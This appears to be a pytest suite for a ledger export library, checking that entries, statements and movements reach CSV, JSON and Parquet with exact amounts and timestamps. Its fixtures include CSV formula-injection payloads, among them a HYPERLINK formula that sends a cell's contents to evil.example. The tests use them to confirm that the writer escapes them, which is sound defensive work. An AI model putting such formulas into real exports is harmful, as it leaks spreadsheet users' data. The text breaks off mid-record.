"""Exporting ledger entries, statements and movements: exact cells in CSV, JSON and Parquet."""

from __future__ import annotations

import csv
import json
import sys
import tempfile
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from alliance import Money, Period
from alliance._periods import from_micros, to_micros
from alliance.errors import CurrencyError, InvalidAmount, MissingDependency, TimezoneError
from alliance.settlement import Entry, Settlement, Statement, _export
from alliance.settlement._export import (
    export,
    to_records,
    write_csv,
    write_json,
    write_parquet,
)
from alliance.settlement._ledger import Movements
from alliance.testing import strategies

TOKYO = ZoneInfo("Asia/Tokyo")

ENTRY_COLUMNS = [
    "entry_id",
    "txn_id",
    "kind",
    "account",
    "partner_id",
    "amount",
    "amount_currency",
    "ts",
    "period",
    "source",
    "memo",
]
STATEMENT_COLUMNS = [
    "statement_id",
    "partner_id",
    "period",
    "period_start",
    "period_end",
    "currency",
    *(
        column
        for name in [
            "opening",
            "approved",
            "adjustments",
            "voided",
            "clawbacks",
            "closing",
            "withheld",
            "paid",
            "carried",
            "payout",
        ]
        for column in (name, f"{name}_currency")
    ),
    "fx_rate",
    "fx_at",
    "reason",
    "commissions",
]
MONEY_FIELDS = [c for c in STATEMENT_COLUMNS if f"{c}_currency" in STATEMENT_COLUMNS]
#: The columns written as free text, which CSV escapes.
ENTRY_TEXT = ["entry_id", "txn_id", "kind", "account", "partner_id", "period", "source", "memo"]
STATEMENT_TEXT = ["statement_id", "partner_id", "currency", "reason"]

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def entry(
    number: int,
    minor: int,
    currency: str,
    *,
    partner_id: str | None = "kol-1",
    memo: str = "",
    source: str | None = None,
    account: str = "payable:kol-1",
    ts: datetime | None = None,
) -> Entry:
    return Entry(
        entry_id=f"e{number}",
        txn_id=f"t{number}",
        kind="approval",
        account=account,
        partner_id=partner_id,
        amount=Money.from_minor(minor, currency),
        ts=ts or datetime(2026, 10, 5, 12, 30, tzinfo=TOKYO) + timedelta(hours=number),
        period="2026-10",
        source=source if source is not None else f"sale|o{number}|1|kol-1",
        memo=memo,
    )


ENTRIES = [
    entry(1, 1230, "USD", memo=HYPERLINK),
    entry(2, -1230, "USD", partner_id="+cmd", account="payable:+cmd"),
    entry(3, 120000, "JPY", partner_id="@SUM(A1)", source="-2+3"),
    entry(4, -1200, "JPY", partner_id=None, account="expense", memo="café, “quoted”\nline two"),
    entry(5, -5, "USD", memo="'already quoted", ts=datetime(2026, 10, 31, 23, 59, tzinfo=UTC)),
    entry(6, 1250, "KWD", memo="\tindented"),
    entry(7, -50, "KWD", memo="\rreturn"),
]


def usd(text: str) -> Money:
    return Money(text, "USD")


def kwd(text: str) -> Money:
    return Money(text, "KWD")


PAID = Statement(
    statement_id="kol-1|2026-10|USD",
    partner_id="kol-1",
    period=Period.month(2026, 10, tz="Asia/Tokyo"),
    currency="USD",
    opening=usd("0.00"),
    approved=usd("120.50"),
    adjustments=usd("10.00"),
    voided=usd("5.25"),
    clawbacks=usd("-0.50"),
    closing=usd("130.00"),
    withheld=usd("13.00"),
    paid=usd("117.00"),
    carried=usd("0.00"),
    payout=Money("17696", "JPY"),
    fx_rate=Decimal("151.25"),
    fx_at=datetime(2026, 11, 1, 9, tzinfo=TOKYO),
    commissions=3,
)
CARRIED = Statement(
    statement_id="@SUM(A1)|2026-10|KWD",
    partner_id="@SUM(A1)",
    period=Period.month(2026, 10, tz="Asia/Tokyo"),
    currency="KWD",
    opening=kwd("-1.250"),
    approved=kwd("0.750"),
    adjustments=kwd("0.000"),
    voided=kwd("0.000"),
    clawbacks=kwd("-0.100"),
    closing=kwd("-0.600"),
    withheld=kwd("0.000"),
    paid=kwd("0.000"),
    carried=kwd("-0.600"),
    payout=kwd("0.000"),
    reason="-0.600 KWD carried: a negative balance is not paid",
)
STATEMENTS = [PAID, CARRIED]


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        rows = list(reader)
        return list(reader.fieldnames or []), rows


def unescape(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


# -- records ------------------------------------------------------------------------------------


def test_entry_records_hold_exact_plain_values() -> None:
    records = to_records(ENTRIES)
    assert list(records[0]) == ENTRY_COLUMNS
    assert records[0] == {
        "entry_id": "e1",
        "txn_id": "t1",
        "kind": "approval",
        "account": "payable:kol-1",
        "partner_id": "kol-1",
        "amount": "12.30",
        "amount_currency": "USD",
        "ts": "2026-10-05T13:30:00+09:00",
        "period": "2026-10",
        "source": "sale|o1|1|kol-1",
        "memo": HYPERLINK,
    }
    assert [(r["amount"], r["amount_currency"]) for r in records] == [
        ("12.30", "USD"),
        ("-12.30", "USD"),
        ("120000", "JPY"),
        ("-1200", "JPY"),
        ("-0.05", "USD"),
        ("1.250", "KWD"),
        ("-0.050", "KWD"),
    ]
    assert records[3]["partner_id"] is None
    assert records[4]["ts"] == "2026-10-31T23:59:00+00:00"


def test_statement_records_spell_out_period_rate_and_every_currency() -> None:
    paid, carried = to_records(STATEMENTS)
    assert list(paid) == STATEMENT_COLUMNS
    assert paid == {
        "statement_id": "kol-1|2026-10|USD",
        "partner_id": "kol-1",
        "period": "2026-10",
        "period_start": "2026-10-01T00:00:00+09:00",
        "period_end": "2026-11-01T00:00:00+09:00",
        "currency": "USD",
        "opening": "0.00",
        "opening_currency": "USD",
        "approved": "120.50",
        "approved_currency": "USD",
        "adjustments": "10.00",
        "adjustments_currency": "USD",
        "voided": "5.25",
        "voided_currency": "USD",
        "clawbacks": "-0.50",
        "clawbacks_currency": "USD",
        "closing": "130.00",
        "closing_currency": "USD",
        "withheld": "13.00",
        "withheld_currency": "USD",
        "paid": "117.00",
        "paid_currency": "USD",
        "carried": "0.00",
        "carried_currency": "USD",
        "payout": "17696",
        "payout_currency": "JPY",
        "fx_rate": "151.25",
        "fx_at": "2026-11-01T09:00:00+09:00",
        "reason": None,
        "commissions": 3,
    }
    # All of one currency, and still one currency column per amount.
    assert {carried[f"{name}_currency"] for name in MONEY_FIELDS} == {"KWD"}
    assert carried["opening"] == "-1.250"
    assert carried["fx_rate"] is None
    assert carried["fx_at"] is None


@pytest.mark.parametrize(
    ("amount", "currency", "cell"),
    [
        ("12.3", "USD", "12.30"),
        ("12", "USD", "12.00"),
        ("-0.00", "USD", "0.00"),
        ("-0", "JPY", "0"),
        ("1200", "JPY", "1200"),
        ("1E+3", "JPY", "1000"),
        ("0.5", "KWD", "0.500"),
        # Finer than the minor unit: kept exactly, never rounded.
        ("0.125", "USD", "0.125"),
        ("-0.0001", "JPY", "-0.0001"),
    ],
)
def test_amounts_are_written_in_the_minor_unit_without_rounding(
    amount: str, currency: str, cell: str
) -> None:
    record = entry(1, 0, currency).model_copy(update={"amount": Money(amount, currency)})
    assert to_records([record])[0]["amount"] == cell


def test_rates_are_plain_decimals() -> None:
    statement = PAID.model_copy(update={"fx_rate": Decimal("1.5E+2")})
    assert to_records([statement])[0]["fx_rate"] == "150"


def test_records_take_any_iterable_and_an_empty_one() -> None:
    assert to_records(e for e in ENTRIES) == to_records(ENTRIES)
    assert to_records([]) == []


def test_a_naive_fx_instant_is_refused_with_its_position(tmp_path: Path) -> None:
    naive = PAID.model_copy(update={"fx_at": datetime(2026, 11, 1, 9)})
    with pytest.raises(TimezoneError, match=r"items\[1\]\.fx_at=.* is naive"):
        to_records([CARRIED, naive])
    for suffix in [".csv", ".json", ".parquet"]:
        with pytest.raises(TimezoneError, match=r"items\[1\]\.fx_at=.* is naive"):
            export([CARRIED, naive], tmp_path / f"naive{suffix}")
        assert not (tmp_path / f"naive{suffix}").exists()


# -- CSV ----------------------------------------------------------------------------------------


def test_csv_reads_back_cell_for_cell(tmp_path: Path) -> None:
    path = tmp_path / "entries.csv"
    write_csv(ENTRIES, path)
    header, rows = read_csv(path)
    assert header == ENTRY_COLUMNS
    assert [row["amount"] for row in rows] == [
        "12.30",
        "-12.30",
        "120000",
        "-1200",
        "-0.05",
        "1.250",
        "-0.050",
    ]
    assert rows[0]["memo"] == "'" + HYPERLINK
    assert rows[1]["partner_id"] == "'+cmd"
    assert rows[1]["account"] == "payable:+cmd"
    assert rows[2]["partner_id"] == "'@SUM(A1)"
    assert rows[2]["source"] == "'-2+3"
    assert rows[3]["partner_id"] == ""
    assert rows[3]["memo"] == "café, “quoted”\nline two"
    assert rows[4]["memo"] == "''already quoted"
    assert rows[5]["memo"] == "'\tindented"
    assert rows[6]["memo"] == "'\rreturn"
    assert rows[0]["ts"] == "2026-10-05T13:30:00+09:00"


def test_csv_never_escapes_the_cells_it_formats(tmp_path: Path) -> None:
    path = tmp_path / "statements.csv"
    write_csv(STATEMENTS, path)
    header, rows = read_csv(path)
    assert header == STATEMENT_COLUMNS
    paid, carried = rows
    assert paid["clawbacks"] == "-0.50"
    assert carried["opening"] == "-1.250"
    assert carried["closing"] == "-0.600"
    assert carried["carried"] == "-0.600"
    assert paid["fx_rate"] == "151.25"
    assert paid["commissions"] == "3"
    assert paid["period_start"] == "2026-10-01T00:00:00+09:00"
    # The same text in a free-text column is escaped.
    assert carried["reason"] == "'-0.600 KWD carried: a negative balance is not paid"
    assert carried["partner_id"] == "'@SUM(A1)"
    assert carried["statement_id"] == "'@SUM(A1)|2026-10|KWD"
    assert paid["reason"] == carried["fx_rate"] == carried["fx_at"] == ""


@pytest.mark.parametrize(
    ("items", "text_columns"), [(ENTRIES, ENTRY_TEXT), (STATEMENTS, STATEMENT_TEXT)]
)
def test_csv_escaping_is_undone_by_dropping_one_quote(
    tmp_path: Path, items: list[Any], text_columns: list[str]
) -> None:
    path = tmp_path / "out.csv"
    write_csv(items, path)
    _, rows = read_csv(path)
    for row, record in zip(rows, to_records(items), strict=True):
        for column, value in record.items():
            cell = row[column]
            if value is None:
                assert cell == ""
            elif column in text_columns:
                assert unescape(cell) == value
            else:
                assert cell == str(value)


@pytest.mark.parametrize(
    ("memo", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'", "''"),
        ("'=1", "''=1"),
        ("", ""),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("12.30", "12.30"),
    ],
)
def test_csv_escapes_free_text_that_a_spreadsheet_could_run(
    tmp_path: Path, memo: str, cell: str
) -> None:
    path = tmp_path / "memo.csv"
    write_csv([entry(1, 100, "USD", memo=memo)], path)
    _, rows = read_csv(path)
    assert rows[0]["memo"] == cell
    assert unescape(rows[0]["memo"]) == memo


@given(memo=st.text(), partner_id=st.text(min_size=1))
def test_any_text_survives_the_csv_round_trip(memo: str, partner_id: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "one.csv"
        write_csv([entry(1, 100, "USD", memo=memo, partner_id=partner_id)], path)
        _, rows = read_csv(path)
    assert unescape(rows[0]["memo"]) == memo
    assert unescape(rows[0]["partner_id"]) == partner_id
    assert not rows[0]["memo"].startswith(("=", "+", "-", "@", "\t", "\r"))


@given(money=strategies.money())
def test_any_amount_is_written_exactly_and_unescaped(money: Money) -> None:
    record = entry(1, 0, "USD").model_copy(update={"amount": money})
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "one.csv"
        write_csv([record], path)
        _, rows = read_csv(path)
    cell = rows[0]["amount"]
    assert Decimal(cell) == money.amount
    assert len(cell.partition(".")[2]) == money.currency_info.exponent
    assert rows[0]["amount_currency"] == money.currency


# -- JSON ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("items", [ENTRIES, STATEMENTS], ids=["entries", "statements"])
def test_json_is_an_array_of_the_records(tmp_path: Path, items: list[Any]) -> None:
    path = tmp_path / "out.json"
    write_json(items, path)
    loaded = json.loads(path.read_text(encoding="utf-8"))
    assert loaded == to_records(items)


def test_json_keeps_decimals_as_strings_and_text_unescaped(tmp_path: Path) -> None:
    path = tmp_path / "out.json"
    write_json(ENTRIES, path)
    text = path.read_text(encoding="utf-8")
    assert "café" in text
    loaded = json.loads(text)
    assert loaded[1]["amount"] == "-12.30"
    assert loaded[0]["memo"] == HYPERLINK
    assert loaded[2]["partner_id"] == "@SUM(A1)"
    assert loaded[3]["partner_id"] is None
    statements = tmp_path / "statements.json"
    write_json(STATEMENTS, statements)
    paid, carried = json.loads(statements.read_text(encoding="utf-8"))
    assert paid["fx_rate"] == "151.25"
    assert paid["commissions"] == 3
    assert carried["fx_rate"] is None


# -- Parquet ------------------------------------------------------------------------------------


def test_parquet_entries_have_typed_columns_and_minor_units(tmp_path: Path) -> None:
    path = tmp_path / "entries.parquet"
    write_parquet(ENTRIES, path)
    table = pq.read_table(path)
    assert table.column_names == [
        *ENTRY_COLUMNS[:7],
        "amount_minor",
        *ENTRY_COLUMNS[7:],
    ]
    assert table.schema.field("amount").type == pa.string()
    assert table.schema.field("amount_minor").type == pa.int64()
    assert table.schema.field("ts").type == pa.timestamp("us", tz="UTC")
    assert table.column("amount").to_pylist() == [r["amount"] for r in to_records(ENTRIES)]
    assert table.column("amount_minor").to_pylist() == [1230, -1230, 120000, -1200, -5, 1250, -50]
    assert table.column("ts").to_pylist() == [e.ts for e in ENTRIES]
    assert table.column("partner_id").to_pylist()[3] is None
    assert table.column("memo").to_pylist()[0] == HYPERLINK


def test_parquet_minor_units_sum_exactly_per_currency(tmp_path: Path) -> None:
    path = tmp_path / "entries.parquet"
    minors = [10, 20, -1, 99_999_999_999]
    many = [entry(n, minor, "USD") for n, minor in enumerate(minors)] * 250
    write_parquet([*many, *ENTRIES], path)
    table = pq.read_table(path, columns=["amount_currency", "amount_minor"])
    sums = table.group_by("amount_currency").aggregate([("amount_minor", "sum")]).to_pylist()
    totals = {row["amount_currency"]: row["amount_minor_sum"] for row in sums}
    # 250 * 100_000_000_028 cents, and 12.30 - 12.30 - 0.05 from ENTRIES.
    assert totals == {"USD": 25_000_000_006_995, "JPY": 118_800, "KWD": 1_200}
    expected: dict[str, Money] = {}
    for record in [*many, *ENTRIES]:
        code = record.amount.currency
        expected[code] = expected.get(code, Money(0, code)) + record.amount
    assert {code: Money.from_minor(total, code) for code, total in totals.items()} == expected


def test_parquet_statements_keep_period_rate_and_counts(tmp_path: Path) -> None:
    path = tmp_path / "statements.parquet"
    write_parquet(STATEMENTS, path)
    table = pq.read_table(path)
    schema = table.schema
    for name in MONEY_FIELDS:
        assert schema.field(name).type == pa.string()
        assert schema.field(f"{name}_currency").type == pa.string()
        assert schema.field(f"{name}_minor").type == pa.int64()
    for name in ["period_start", "period_end", "fx_at"]:
        assert schema.field(name).type == pa.timestamp("us", tz="UTC")
    assert schema.field("fx_rate").type == pa.string()
    assert schema.field("commissions").type == pa.int64()
    paid, carried = table.to_pylist()
    assert paid["payout"] == "17696"
    assert paid["payout_minor"] == 17696
    assert paid["payout_currency"] == "JPY"
    assert paid["clawbacks_minor"] == -50
    assert carried["closing"] == "-0.600"
    assert carried["closing_minor"] == -600
    assert paid["period"] == "2026-10"
    assert paid["period_start"] == datetime(2026, 9, 30, 15, tzinfo=UTC)
    assert paid["period_end"] == datetime(2026, 10, 31, 15, tzinfo=UTC)
    assert paid["fx_at"] == datetime(2026, 11, 1, tzinfo=UTC)
    assert paid["fx_rate"] == "151.25"
    assert paid["commissions"] == 3
    assert carried["fx_at"] is None
    assert carried["reason"] == "-0.600 KWD carried: a negative balance is not paid"


def test_parquet_refuses_an_amount_finer_than_the_minor_unit(tmp_path: Path) -> None:
    fine = entry(1, 0, "USD").model_copy(update={"amount": Money("0.125", "USD")})
    with pytest.raises(InvalidAmount, match=r"items\[1\]\.amount=0\.125 USD is finer"):
        write_parquet([ENTRIES[0], fine], tmp_path / "fine.parquet")
    assert not (tmp_path / "fine.parquet").exists()


def test_parquet_without_pyarrow_says_how_to_install_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in [m for m in sys.modules if m == "pyarrow" or m.startswith("pyarrow.")]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # import raises ImportError
    with pytest.raises(MissingDependency, match=r"write_parquet needs pyarrow; install it with: "):
        write_parquet(ENTRIES, tmp_path / "entries.parquet")
    with pytest.raises(ImportError):
        export(ENTRIES, tmp_path / "entries.parquet")


# -- empty exports ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "columns"), [(Entry, ENTRY_COLUMNS), (Statement, STATEMENT_COLUMNS)]
)
def test_empty_exports_keep_the_columns_of_their_kind(
    tmp_path: Path, kind: type[Entry] | type[Statement], columns: list[str]
) -> None:
    export([], tmp_path / "empty.csv", kind=kind)
    export(iter([]), tmp_path / "empty.json", kind=kind)
    export((), tmp_path / "empty.parquet", kind=kind)
    header, rows = read_csv(tmp_path / "empty.csv")
    assert (header, rows) == (columns, [])
    assert json.loads((tmp_path / "empty.json").read_text(encoding="utf-8")) == []
    empty = pq.read_table(tmp_path / "empty.parquet")
    assert empty.num_rows == 0
    full = tmp_path / "full.parquet"
    write_parquet(ENTRIES if kind is Entry else STATEMENTS, full)
    assert empty.schema == pq.read_table(full).schema


@pytest.mark.parametrize("suffix", [".csv", ".json", ".parquet"])
def test_empty_exports_need_a_kind(tmp_path: Path, suffix: str) -> None:
    with pytest.raises(ValueError, match="items is empty and kind is None; pass kind=Entry"):
        export([], tmp_path / f"empty{suffix}")
    assert not (tmp_path / f"empty{suffix}").exists()


# -- choosing the format ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "format_", "read"),
    [
        ("out.csv", None, lambda p: read_csv(p)[1][1]["amount"]),
        ("OUT.CSV", None, lambda p: read_csv(p)[1][1]["amount"]),
        ("out.json", None, lambda p: json.loads(p.read_text("utf-8"))[1]["amount"]),
        ("out.parquet", None, lambda p: pq.read_table(p).column("amount")[1].as_py()),
        ("out.txt", "csv", lambda p: read_csv(p)[1][1]["amount"]),
        ("out.csv", "json", lambda p: json.loads(p.read_text("utf-8"))[1]["amount"]),
    ],
)
def test_export_picks_the_format_by_suffix_or_by_name(
    tmp_path: Path, name: str, format_: Any, read: Any
) -> None:
    path = tmp_path / name
    export(ENTRIES, str(path), format=format_)
    assert read(path) == "-12.30"


@pytest.mark.parametrize("name", ["out.xlsx", "out", "out.csv.gz", "out.jsonl"])
def test_export_refuses_an_unknown_suffix(tmp_path: Path, name: str) -> None:
    with pytest.raises(ValueError, match=r"expected one of \.csv, \.json, \.parquet"):
        export(ENTRIES, tmp_path / name)
    assert not (tmp_path / name).exists()


def test_export_refuses_an_unknown_format(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="format='xlsx' is not one of 'csv', 'json', 'parquet'"):
        export(ENTRIES, tmp_path / "out.csv", format="xlsx")  # type: ignore[arg-type]


# -- bad items ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("items", "kind", "message"),
    [
        ([ENTRIES[0], PAID], None, r"items\[1\] is Statement where items\[0\] is Entry"),
        (STATEMENTS, Entry, r"items\[0\] is Statement where kind=Entry"),
        ([ENTRIES[0], {"entry_id": "e2"}], None, r"items\[1\] is a dict; expected Entry or"),
        (ENTRIES[0], None, "got a single Entry; wrap it in a list"),
        ("e1", None, "got a single str"),
        (
            Settlement(statements=(), entries=()),
            None,
            "export settlement.entries, settlement.statements or settlement.movements",
        ),
        (ENTRIES, Money, "kind=<class 'alliance.Money'> must be Entry or Statement"),
    ],
)
def test_bad_items_are_refused_before_anything_is_written(
    tmp_path: Path, items: Any, kind: Any, message: str
) -> None:
    for suffix in [".csv", ".json", ".parquet"]:
        with pytest.raises(TypeError, match=message):
            export(items, tmp_path / f"bad{suffix}", kind=kind)
        assert not (tmp_path / f"bad{suffix}").exists()
    if kind is None:
        with pytest.raises(TypeError, match=message):
            to_records(items)


def test_offsets_other_than_utc_reach_parquet_as_the_same_instant(tmp_path: Path) -> None:
    offset = timezone(timedelta(hours=-3, minutes=-30))
    record = entry(1, 100, "USD", ts=datetime(2026, 10, 5, 20, 45, 0, 123456, tzinfo=offset))
    write_parquet([record], tmp_path / "one.parquet")
    (ts,) = pq.read_table(tmp_path / "one.parquet").column("ts").to_pylist()
    assert ts == datetime(2026, 10, 6, 0, 15, 0, 123456, tzinfo=UTC)
    assert to_records([record])[0]["ts"] == "2026-10-05T20:45:00.123456-03:30"


# -- movements ----------------------------------------------------------------------------------

MOVEMENT_COLUMNS = [
    "txn_id",
    "kind",
    "commission_id",
    "source",
    "order_id",
    "line_id",
    "partner_id",
    "contract_id",
    "version",
    "amount",
    "currency",
    "ts",
    "period",
    "reversal_id",
    "rejected",
]
#: The movement columns written as free text, which CSV escapes.
MOVEMENT_TEXT = [
    "txn_id",
    "kind",
    "commission_id",
    "source",
    "order_id",
    "line_id",
    "partner_id",
    "contract_id",
    "period",
    "reversal_id",
]
MOVEMENT_PARQUET_COLUMNS = [*MOVEMENT_COLUMNS[:11], "amount_minor", *MOVEMENT_COLUMNS[11:]]


def moved(**columns: list[Any]) -> Movements:
    """USD accruals of one line, with the given columns (of one length) replaced."""
    size = len(next(iter(columns.values()), [None]))
    one: dict[str, list[Any]] = {
        "txn_id": ["accrual|kol-1|USD|2026-10|1"],
        "kind": ["accrual"],
        "source": ["sale"],
        "order_id": ["o1"],
        "line_id": ["1"],
        "partner_id": ["kol-1"],
        "contract_id": ["c-std"],
        "version": [1],
        "currency": ["USD"],
        "amount": [1230],
        "ts": [to_micros(datetime(2026, 10, 5, 12, tzinfo=UTC))],
        "period": ["2026-10"],
        "reversal_id": [None],
        "rejected": [False],
    }
    return Movements({**{name: values * size for name, values in one.items()}, **columns})


MOVEMENTS = Movements(
    {
        "txn_id": [
            "accrual|kol-1|USD|2026-10|1",
            "clawback|kol-1|USD|2026-10|1",
            "accrual|コル-2|JPY|2026-10|1",
            "void|+cmd|JPY|2026-10|1",
        ],
        "kind": ["accrual", "clawback", "accrual", "void"],
        "source": ["sale", "sale", "sale", "refund"],
        "order_id": ["o1", "=cmd", "注文-7", "o4"],
        "line_id": np.array(["1", None, "2", None], dtype=object),
        "partner_id": ["kol-1", "kol-1", "コル-2", "+cmd"],
        "contract_id": ["c-std", "c-std", 'c-jp, "quoted"', "c-std\nline two"],
        "version": [1, 2, 3, 1],
        "currency": ["USD", "USD", "JPY", "JPY"],
        "amount": [1230, -5, 1200, -120000],
        "ts": [
            to_micros(datetime(2026, 10, 5, 12, tzinfo=UTC)),
            to_micros(datetime(2026, 10, 20, 3, 4, 5, 250, tzinfo=UTC)),
            to_micros(datetime(2026, 11, 1, tzinfo=TOKYO)),
            to_micros(datetime(1969, 12, 31, 23, 59, 59, 999999, tzinfo=UTC)),
        ],
        "period": ["2026-10", "2026-10", "2026-10", "2026-10"],
        "reversal_id": np.array([None, "r-9", None, "@SUM(A1)"], dtype=object),
        "rejected": [False, True, False, False],
    }
)
MOVEMENT_RECORDS: list[dict[str, Any]] = [
    {
        "txn_id": "accrual|kol-1|USD|2026-10|1",
        "kind": "accrual",
        "commission_id": "sale|o1|1|kol-1",
        "source": "sale",
        "order_id": "o1",
        "line_id": "1",
        "partner_id": "kol-1",
        "contract_id": "c-std",
        "version": 1,
        "amount": "12.30",
        "currency": "USD",
        "ts": "2026-10-05T12:00:00+00:00",
        "period": "2026-10",
        "reversal_id": None,
        "rejected": False,
    },
    {
        "txn_id": "clawback|kol-1|USD|2026-10|1",
        "kind": "clawback",
        "commission_id": "sale|=cmd|-|kol-1",
        "source": "sale",
        "order_id": "=cmd",
        "line_id": None,
        "partner_id": "kol-1",
        "contract_id": "c-std",
        "version": 2,
        "amount": "-0.05",
        "currency": "USD",
        "ts": "2026-10-20T03:04:05.000250+00:00",
        "period": "2026-10",
        "reversal_id": "r-9",
        "rejected": True,
    },
    {
        "txn_id": "accrual|コル-2|JPY|2026-10|1",
        "kind": "accrual",
        "commission_id": "sale|注文-7|2|コル-2",
        "source": "sale",
        "order_id": "注文-7",
        "line_id": "2",
        "partner_id": "コル-2",
        "contract_id": 'c-jp, "quoted"',
        "version": 3,
        "amount": "1200",
        "currency": "JPY",
        "ts": "2026-10-31T15:00:00+00:00",
        "period": "2026-10",
        "reversal_id": None,
        "rejected": False,
    },
    {
        "txn_id": "void|+cmd|JPY|2026-10|1",
        "kind": "void",
        "commission_id": "refund|o4|-|+cmd",
        "source": "refund",
        "order_id": "o4",
        "line_id": None,
        "partner_id": "+cmd",
        "contract_id": "c-std\nline two",
        "version": 1,
        "amount": "-120000",
        "currency": "JPY",
        "ts": "1969-12-31T23:59:59.999999+00:00",
        "period": "2026-10",
        "reversal_id": "@SUM(A1)",
        "rejected": False,
    },
]


def test_movement_records_hold_exact_plain_values() -> None:
    records = to_records(MOVEMENTS)
    assert records == MOVEMENT_RECORDS
    assert [list(record) for record in records] == [MOVEMENT_COLUMNS] * 4
    assert [type(r["version"]) for r in records] == [int] * 4
    assert [type(r["rejected"]) for r in records] == [bool] * 4


def test_movement_records_agree_with_the_movements_own_records() -> None:
    records = to_records(MOVEMENTS)
    for ours, theirs in zip(records, MOVEMENTS.to_records(), strict=True):
        assert ours["amount"] == format(theirs["amount"].amount, "f")
        assert ours["currency"] == theirs["amount"].currency
        assert ours["ts"] == theirs["ts"].isoformat()
        for name in MOVEMENT_TEXT:
            if name != "commission_id":
                assert ours[name] == theirs[name]
    assert [r["commission_id"] for r in records] == MOVEMENTS.commission_ids().tolist()


@pytest.mark.parametrize(
    ("minor", "currency", "cell"),
    [
        (0, "USD", "0.00"),
        (-1, "USD", "-0.01"),
        (99, "USD", "0.99"),
        (-100, "USD", "-1.00"),
        (0, "JPY", "0"),
        (-7, "JPY", "-7"),
        (1, "KWD", "0.001"),
        (-1250, "KWD", "-1.250"),
        (12345, "CLF", "1.2345"),
        (2**63 - 1, "USD", "92233720368547758.07"),
        (-(2**63), "USD", "-92233720368547758.08"),
        (-(2**63), "JPY", "-9223372036854775808"),
    ],
)
def test_movement_amounts_have_the_minor_unit_places(minor: int, currency: str, cell: str) -> None:
    (record,) = to_records(moved(amount=[minor], currency=[currency]))
    assert record["amount"] == cell
    assert record["currency"] == currency


def test_movement_amounts_mix_currencies_row_by_row() -> None:
    codes = ["JPY", "USD", "KWD", "CLF", "USD", "JPY"]
    records = to_records(moved(currency=codes, amount=[-5, -5, -5, -5, 120000, 120000]))
    amounts = [(r["amount"], r["currency"]) for r in records]
    assert amounts == [
        ("-5", "JPY"),
        ("-0.05", "USD"),
        ("-0.005", "KWD"),
        ("-0.0005", "CLF"),
        ("1200.00", "USD"),
        ("120000", "JPY"),
    ]


@given(
    minor=st.integers(min_value=-(2**63), max_value=2**63 - 1),
    code=st.sampled_from(["USD", "JPY", "KWD", "CLF"]),
)
def test_any_movement_amount_is_the_text_of_its_money(minor: int, code: str) -> None:
    (record,) = to_records(moved(amount=[minor], currency=[code]))
    assert record["amount"] == format(Money.from_minor(minor, code).amount, "f")


FIRST_US = to_micros(datetime.min.replace(tzinfo=UTC))
LAST_US = to_micros(datetime.max.replace(tzinfo=UTC))


@pytest.mark.parametrize(
    ("us", "cell"),
    [
        (0, "1970-01-01T00:00:00+00:00"),
        (-1, "1969-12-31T23:59:59.999999+00:00"),
        (1_000_000, "1970-01-01T00:00:01+00:00"),
        (1791201600000250, "2026-10-05T12:00:00.000250+00:00"),
        (FIRST_US, "0001-01-01T00:00:00+00:00"),
        (LAST_US, "9999-12-31T23:59:59.999999+00:00"),
    ],
)
def test_movement_instants_are_utc_iso_text(us: int, cell: str) -> None:
    (record,) = to_records(moved(ts=[us]))
    assert record["ts"] == cell


@given(us=st.integers(min_value=FIRST_US, max_value=LAST_US))
def test_any_movement_instant_is_written_as_utc_iso_text(us: int) -> None:
    (record,) = to_records(moved(ts=[us]))
    assert record["ts"] == from_micros(us).isoformat()
    assert datetime.fromisoformat(record["ts"]) == from_micros(us)


def test_a_lower_case_currency_is_written_as_its_iso_code() -> None:
    (record,) = to_records(moved(currency=["usd"]))
    assert (record["amount"], record["currency"]) == ("12.30", "USD")


def test_movement_csv_reads_back_cell_for_cell(tmp_path: Path) -> None:
    path = tmp_path / "movements.csv"
    write_csv(MOVEMENTS, path)
    header, rows = read_csv(path)
    assert header == MOVEMENT_COLUMNS
    assert rows == [
        {
            "txn_id": "accrual|kol-1|USD|2026-10|1",
            "kind": "accrual",
            "commission_id": "sale|o1|1|kol-1",
            "source": "sale",
            "order_id": "o1",
            "line_id": "1",
            "partner_id": "kol-1",
            "contract_id": "c-std",
            "version": "1",
            "amount": "12.30",
            "currency": "USD",
            "ts": "2026-10-05T12:00:00+00:00",
            "period": "2026-10",
            "reversal_id": "",
            "rejected": "false",
        },
        {
            "txn_id": "clawback|kol-1|USD|2026-10|1",
            "kind": "clawback",
            "commission_id": "sale|=cmd|-|kol-1",
            "source": "sale",
            "order_id": "'=cmd",
            "line_id": "",
            "partner_id": "kol-1",
            "contract_id": "c-std",
            "version": "2",
            "amount": "-0.05",
            "currency": "USD",
            "ts": "2026-10-20T03:04:05.000250+00:00",
            "period": "2026-10",
            "reversal_id": "r-9",
            "rejected": "true",
        },
        {
            "txn_id": "accrual|コル-2|JPY|2026-10|1",
            "kind": "accrual",
            "commission_id": "sale|注文-7|2|コル-2",
            "source": "sale",
            "order_id": "注文-7",
            "line_id": "2",
            "partner_id": "コル-2",
            "contract_id": 'c-jp, "quoted"',
            "version": "3",
            "amount": "1200",
            "currency": "JPY",
            "ts": "2026-10-31T15:00:00+00:00",
            "period": "2026-10",
            "reversal_id": "",
            "rejected": "false",
        },
        {
